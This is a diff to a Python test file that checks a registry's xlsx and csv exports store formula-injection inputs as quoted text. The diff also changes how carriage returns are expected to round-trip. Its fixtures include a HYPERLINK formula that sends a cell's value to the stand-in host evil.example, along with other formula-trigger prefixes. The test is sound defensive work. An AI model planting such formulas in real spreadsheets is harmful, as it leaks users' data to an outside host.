@@ -166,18 +166,15 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 FORMULAS = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''@x"]
 
 
-def lf(text):
-    return text.replace("\r", "\n")
-
-
 def test_an_xlsx_the_registry_writes_holds_no_formula_only_quoted_text_and_numbers():
     rows = [["m", text, -5] for text in FORMULAS]
     data = import_files.xlsx_bytes("meetings", ["slug", "title", "number"], rows, described=[["a"], [HYPERLINK]])
     workbook = openpyxl.load_workbook(io.BytesIO(data))
     sheet = workbook["meetings"]
     titles = [row[1] for row in sheet.iter_rows(min_row=2)]
-    # An .xlsx file holds a carriage return as a line feed (XML reads it so).
-    assert [(cell.value, cell.data_type) for cell in titles] == [("'" + lf(text), "s") for text in FORMULAS]
+    # A carriage return stays one (openpyxl writes and reads it escaped when lxml is installed,
+    # as requirements.txt has it for the IATI import).
+    assert [(cell.value, cell.data_type) for cell in titles] == [("'" + text, "s") for text in FORMULAS]
     assert {(row[2].value, row[2].data_type) for row in sheet.iter_rows(min_row=2)} == {(-5, "n")}
     assert [(cell.value, cell.data_type) for cell in workbook["Columns"]["A"]] == [("a", "s"), ("'" + HYPERLINK, "s")]
 
@@ -196,7 +193,7 @@ def test_the_csv_and_xlsx_the_registry_writes_read_back_as_every_text_was():
     rows = [[f"m{n}", text, 5] for n, text in enumerate(texts)]
     for name, data, same in [
         ("meetings.csv", import_files.csv_bytes(["slug", "title", "number"], rows), str),
-        ("meetings.xlsx", import_files.xlsx_bytes("meetings", ["slug", "title", "number"], rows), lf),
+        ("meetings.xlsx", import_files.xlsx_bytes("meetings", ["slug", "title", "number"], rows), str),
     ]:
         table = read_table(name, data)
         assert table.headers == ("slug", "title", "number")
